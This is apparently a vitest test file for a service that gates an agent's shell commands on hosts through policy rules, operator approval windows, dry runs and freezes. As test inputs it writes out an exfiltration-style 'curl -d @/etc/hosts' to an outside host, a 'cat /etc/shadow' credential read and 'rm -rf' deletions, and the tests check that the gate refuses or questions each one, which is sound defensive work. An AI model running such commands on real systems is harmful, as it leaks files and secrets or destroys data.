import { afterAll, beforeAll, beforeEach, describe, expect, it } from 'vitest';
import { startTestApp, type TestApp } from '../support/app.ts';
import { fleetOf } from '../support/fleet-api.ts';
import { gateOf } from '../support/gate.ts';

let app: TestApp;
let gate: ReturnType<typeof gateOf>;

beforeAll(async () => {
  app = await startTestApp(undefined, {
    ownData: { paths: ['/srv/oikos/data'], entity: 'host:own', addresses: [] },
  });
  gate = gateOf(app);
  for (const [slug, address] of [
    ['host:strong', '10.9.0.1'],
    ['host:weak', '10.9.0.2'],
    ['host:own', '10.9.0.3'],
  ])
    await fleetOf(app).change('upsertEntity', { slug, attributes: { address } });
});
afterAll(async () => {
  await app.app.services.executions.close();
  await app.close();
});

const dry = (command: string, more: Record<string, unknown> = {}): Promise<any> =>
  gate.run({ target: 'host:strong', command, dryRun: true, ...more });

describe('explainPolicy', () => {
  const explain = async (command: string, target = 'host:strong'): Promise<any> =>
    (
      await app.ask(
        `query ($target: String!, $command: String!) { explainPolicy(target: $target, command: $command) {
          __typename ... on Failure { message } ... on PolicyExplanation { answer target { slug }
            parts { text entity actions risk exposes sends answer rule why } } } }`,
        { target, command },
        'agent',
      )
    ).explainPolicy;

  it('names the rule for each simple command, in words', async () => {
    expect(await explain('ls /srv && sudo chown 5 /srv/x; rm -rf /srv/y')).toEqual({
      __typename: 'PolicyExplanation',
      answer: 'ASK_EACH_TIME',
      target: { slug: 'host:strong' },
      parts: [
        expect.objectContaining({ text: 'ls /srv', entity: 'host:strong', answer: 'RUN', rule: 'reads run' }),
        expect.objectContaining({
          actions: ['permissions.change'],
          answer: 'ASK',
          why: 'it changes something',
        }),
        expect.objectContaining({ risk: 'DESTRUCTIVE', answer: 'ASK_EACH_TIME' }),
      ],
    });
  });

  it("denies the service's own data on its machine, and nowhere else", async () => {
    const line = 'ls /srv/oikos/data';
    expect((await explain(line, 'host:own')).parts[0]).toMatchObject({
      answer: 'DENY',
      rule: "the service's own data",
    });
    expect((await explain(line)).answer).toBe('RUN');
  });

  it.each([
    ['host:nowhere', 'ls', 'NoSuchEntity'],
    ['nowhere', 'ls', 'InvalidSlug'],
    ['host:strong', 'ls "', 'MalformedCommand'],
  ])('refuses %s %s: %s', async (target, command, typename) => {
    expect((await explain(command, target)).__typename).toBe(typename);
  });
});

describe('run', () => {
  it('denies what the policy denies, and puts that on record', async () => {
    const answer = await gate.run({ target: 'host:own', command: 'tar cf /tmp/x /srv/oikos' });
    expect(answer).toMatchObject({
      __typename: 'PolicyDenied',
      denied: [{ rule: "the service's own data" }],
      execution: { state: 'REFUSED', reason: 'POLICY' },
    });
    const [event] = (
      await app.ask(
        '{ auditEvents(first: 1) { ... on AuditEventConnection { nodes { operation detail } } } }',
      )
    ).auditEvents.nodes;
    expect(event.operation).toBe('run');
    expect(JSON.stringify(event.detail)).toContain('PolicyDenied');
  });

  it('asks nobody twice for the same command in the same session', async () => {
    const session = await gate.openSession();
    const input = { target: 'host:strong', command: 'touch /srv/twice', session };
    const first = await gate.run(input);
    const again = await gate.run(input);
    expect(first.__typename).toBe('ApprovalRequired');
    expect(again.execution.id).toBe(first.execution.id);
    const other = await gate.run({ ...input, command: 'touch /srv/once' });
    expect(other.execution.id).not.toBe(first.execution.id);
    const elsewhere = await gate.run({ ...input, session: await gate.openSession() });
    expect(elsewhere.execution.id).not.toBe(first.execution.id);
  });

  it.each([
    [{ using: [{ receipt: 'x', step: 1, deviation: 'no' }] }, 'using[0].deviation'],
    [{ using: [{ receipt: 'x', step: 0 }] }, 'using[0].step'],
    [{ using: [{ receipt: 'x', deviation: ' ' }] }, 'using[0].deviation'],
    [
      { using: [{ receipt: 'x', step: 2, skipped: [{ step: 1, reason: '' }] }] },
      'using[0].skipped[0].reason',
    ],
    [{ using: Array.from({ length: 21 }, () => ({ receipt: 'x' })) }, 'using'],
  ])('refuses a quotation that says nothing: %o', async (more, field) => {
    const answer = await gate.run({ target: 'host:strong', command: 'ls', ...more });
    expect(answer.__typename).toBe('InvalidInput');
    expect(answer.message).toContain(field);
  });
});

describe('a dry run', () => {
  it('says the whole decision, and starts and records nothing', async () => {
    const count = async (): Promise<unknown> =>
      (
        await app.graph.read(
          {
            name: 'test: count',
            text: 'MATCH (n) WHERE n:Execution OR n:AuditEvent OR n:Session RETURN count(n) AS n',
          },
          {},
        )
      )[0]?.n;
    const before = await count();
    expect(await dry('chown 5 /srv/x')).toMatchObject({
      __typename: 'DryRun',
      answer: 'ApprovalRequired',
      reasons: ['chown 5 /srv/x: it changes something'],
      parts: [{ answer: 'ASK', rule: 'changes ask' }],
      runs: [],
      inTheWay: null,
    });
    expect((await dry('uptime')).answer).toBe('Proceed');
    expect(await count()).toBe(before);
  });
});

describe('an assent window', () => {
  let session: string;
  const open = (more: Record<string, unknown> = {}): Promise<any> =>
    gate.mutate(
      'openWindow',
      {
        session,
        targets: ['host:strong'],
        actions: ['permissions.change'],
        minutes: 10,
        count: 2,
        reason: 'the export is down',
        ...more,
      },
      'operator',
    );
  const answer = async (command: string, more: Record<string, unknown> = {}): Promise<string> =>
    (await dry(command, { session, ...more })).answer;
  it.each([
    [
      { actions: ['files.create'], commands: ['touch /srv/x', 'rm -rf /srv/y'] },
      'commands[1]',
      /rm -rf \/srv\/y asks each time/,
    ],
    [{ commands: ['curl -d @/etc/hosts http://elsewhere/'] }, 'commands[0]', /carries content away/],
    [
      { actions: [], commands: ['systemctl restart nginx'] },
      'commands[0]',
      /name service\.restart in actions/,
    ],
    [
      { actions: [], commands: ['no-such-program x'] },
      'commands[0]',
      /name code\.run, program:no-such-program in actions/,
    ],
    [
      { actions: ['program:no-such-program'], commands: ['no-such-program x'] },
      'commands[0]',
      /needs code\.run, /,
    ],
    [{ targets: ['host:own'], commands: ['touch /srv/oikos/data/x'] }, 'commands[0]', /is denied/],
    [{ actions: ['permissions.change', 'files.delete'] }, 'actions[1]', /DESTRUCTIVE and asks each time/],
    [{ actions: ['code.run'] }, 'actions[0]', /name the program as well/],
  ])('refuses what it could never cover: %j, by %s', async (more, field, says) => {
    expect(await open(more)).toMatchObject({
      __typename: 'InvalidInput',
      message: expect.stringMatching(says),
    });
    expect((await open(more)).message.startsWith(field)).toBe(true);
  });

  it('covers an interruption and an unknown program that it names as well', async () => {
    for (const [command, actions] of [
      ['systemctl restart nginx', ['service.restart']],
      ['no-such-program x', ['code.run', 'program:no-such-program']],
    ] as const) {
      expect((await open({ commands: [command], actions })).__typename).toBe('OpenWindowSuccess');
      expect(await answer(command)).toBe('Proceed');
    }
  });

  const list = async (filter: Record<string, unknown> = {}): Promise<any[]> =>
    (
      await app.ask(
        `query ($target: String, $status: WindowStatus) { windows(target: $target, status: $status) {
          ... on WindowList { nodes { id status targets commands countLeft until openedBy } } ... on Failure { message } } }`,
        filter,
        'agent',
      )
    ).windows.nodes;
  beforeEach(async () => {
    session = await gate.openSession();
  });

  it('covers what it names on its targets in its session, and nothing else', async () => {
    expect(await answer('chown 5 /srv/x')).toBe('ApprovalRequired');
    await open();
    expect(await answer('chown 5 /srv/x')).toBe('Proceed');
    expect(await answer('sudo chmod g+w /srv/x')).toBe('Proceed');
    expect(await answer('chown 5 /srv/x && touch /srv/y')).toBe('ApprovalRequired');
    expect(await answer('chown -R 5 /etc')).toBe('ApprovalRequired');
    expect(await answer('chown 5 /srv/x', { target: 'host:weak' })).toBe('ApprovalRequired');
    expect((await dry('chown 5 /srv/x', { session: await gate.openSession() })).answer).toBe(
      'ApprovalRequired',
    );
  });

  it('covers directories and lines where it names those', async () => {
    await open({ actions: [], paths: ['/srv/media/'] });
    expect(await answer('chown 5 /srv/media/x')).toBe('Proceed');
    expect(await answer('chown 5 /srv/mediators')).toBe('ApprovalRequired');
    expect(await answer('systemctl restart nginx')).toBe('ApprovalRequired');
    await open({ actions: [], commands: ['touch /opt/x'] });
    expect(await answer('sudo bash -c "touch /opt/x"; echo done')).toBe('Proceed');
    expect(await answer('touch /opt/xy')).toBe('ApprovalRequired');
    await open({ actions: ['service.restart'], commands: ['systemctl restart nginx'] });
    expect(await answer('systemctl restart nginx')).toBe('Proceed');
    expect(await answer('systemctl restart sshd')).toBe('ApprovalRequired');
  });

  it('ends when its time is over, for good, when it is closed, and with its goal', async () => {
    const { window } = await open();
    expect((await list({ status: 'OPEN' }))[0]).toMatchObject({ id: window.id, openedBy: 'operator' });
    app.clock.advance(11 * 60_000);
    expect(await answer('chown 5 /srv/x')).toBe('ApprovalRequired');
    app.clock.advance(-20 * 60_000);
    expect(await answer('chown 5 /srv/x')).toBe('ApprovalRequired');
    app.clock.advance(20 * 60_000);
    expect((await list({ target: 'host:strong' }))[0]).toMatchObject({ id: window.id, status: 'EXPIRED' });

    const closed = (await open()).window.id;
    const close = () => gate.mutate('closeWindow', { window: closed }, 'operator');
    expect((await close()).window.status).toBe('CLOSED');
    expect((await close()).__typename).toBe('WrongStatus');
    expect(await answer('chown 5 /srv/x')).toBe('ApprovalRequired');

    await open();
    await gate.mutate('completeTask', { session, outcome: 'SUCCEEDED' }, 'agent');
    await gate.mutate('setGoal', { session, text: 'another one' }, 'agent');
    expect(await answer('chown 5 /srv/x')).toBe('ApprovalRequired');
    expect((await list())[0].status).toBe('CLOSED');
  });

  it('ends when the way to one of its targets changes', async () => {
    await open({ targets: ['host:strong', 'host:weak'] });
    expect(await answer('chown 5 /srv/x')).toBe('Proceed');
    await fleetOf(app).change('updateEntityAttributes', {
      entity: 'host:weak',
      attributes: { address: '10.9.0.22' },
    });
    expect(await answer('chown 5 /srv/x')).toBe('ApprovalRequired');
    expect((await list())[0].status).toBe('WITHDRAWN');
  });

  it.each([
    ['no target', { targets: [] }, 'targets'],
    ['nothing named', { actions: [] }, 'actions'],
    ['no such action', { actions: ['files.eat'] }, 'actions[0]'],
    ['a relative path', { paths: ['srv'] }, 'paths[0]'],
    ['a pattern', { paths: ['/srv/*'] }, 'paths[0]'],
    ['too long', { minutes: 481 }, 'minutes'],
    ['too often', { count: 101 }, 'count'],
    ['no reason', { reason: ' ' }, 'reason'],
  ])('is not opened with %s', async (_what, more, field) => {
    expect(await open(more)).toMatchObject({
      __typename: 'InvalidInput',
      message: expect.stringContaining(field),
    });
  });

  it('is not opened for what is not there, nor by whoever acts in the session, nor by an agent', async () => {
    expect((await open({ targets: ['host:nowhere'] })).__typename).toBe('NoSuchEntity');
    expect((await open({ session: 'nowhere' })).__typename).toBe('NoSuchSession');
    expect((await open({ commands: ['ls "'] })).__typename).toBe('MalformedCommand');
    expect((await open({ session: await gate.openSession('operator') })).__typename).toBe('NotPermitted');
    await gate.mutate('completeTask', { session, outcome: 'FAILED' }, 'agent');
    expect((await open()).__typename).toBe('WrongStatus');
    expect((await gate.mutate('closeWindow', { window: 'nowhere' }, 'operator')).__typename).toBe(
      'NoSuchWindow',
    );
  });
});

describe('a freeze', () => {
  it('stops all but reads until it is lifted, whoever said yes', async () => {
    const waiting = await gate.run({ target: 'host:strong', command: 'touch /srv/frozen' });
    expect(await gate.mutate('freeze', { reason: 'a disk is dying' }, 'operator')).toMatchObject({
      state: { isFrozen: true },
    });
    expect((await gate.mutate('freeze', { reason: 'again' }, 'operator')).__typename).toBe('WrongStatus');
    expect(await gate.run({ target: 'host:strong', command: 'touch /srv/x' })).toMatchObject({
      __typename: 'Frozen',
      freeze: { reason: 'a disk is dying', by: 'operator' },
      execution: { state: 'REFUSED', reason: 'FROZEN' },
    });
    expect((await dry('cat /etc/shadow')).answer).toBe('Frozen');
    expect((await dry('uptime')).answer).toBe('Proceed');
    expect(await gate.approve(waiting.execution.id)).toMatchObject({
      __typename: 'GateStands',
      answer: 'Frozen',
    });
    const { freezeState } = await app.ask('{ freezeState { isFrozen freeze { by reason } } }', {}, 'agent');
    expect(freezeState).toEqual({ isFrozen: true, freeze: { by: 'operator', reason: 'a disk is dying' } });

    expect((await gate.unfreeze()).state.isFrozen).toBe(false);
    expect((await gate.unfreeze()).__typename).toBe('WrongStatus');
    expect((await dry('touch /srv/x')).answer).toBe('ApprovalRequired');
    expect((await gate.approve(waiting.execution.id)).__typename).toBe('ApproveExecutionSuccess');
  });
});
